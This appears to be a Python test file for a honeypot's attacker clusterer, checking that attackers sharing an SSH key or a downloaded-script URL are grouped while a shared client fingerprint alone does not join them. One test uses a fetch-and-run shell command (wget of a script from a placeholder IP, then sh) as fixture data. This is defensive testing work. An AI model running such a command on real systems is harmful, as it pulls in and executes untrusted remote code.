# SPDX-License-Identifier: MIT
"""Which attackers are one identity, and which are not."""

from __future__ import annotations

from sqlalchemy import Engine
from tests.decnet_workers.clusterer.scenes import Follower, command, event, groups, hassh, key, several

A, B, C, D = (f"192.0.2.{number}" for number in range(1, 5))


def test_those_who_offer_one_key_are_one_and_keep_the_id_of_the_first(engine: Engine) -> None:
    Follower(engine).run([event(A, key("a")), event(B, key("a"), 1), event(C, key("c"), 2)])
    assert several(engine) == groups([A, B])


def test_a_tool_joins_nobody(engine: Engine) -> None:
    Follower(engine).run([event(each, hassh("a")) for each in (A, B, C)])
    assert several(engine) == set()


def test_commands_name_urls(engine: Engine) -> None:
    line = "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh"
    Follower(engine).run([event(A, command(line)), event(B, command(line), 1), event(C, command("uname -a"), 2)])
    assert several(engine) == groups([A, B])
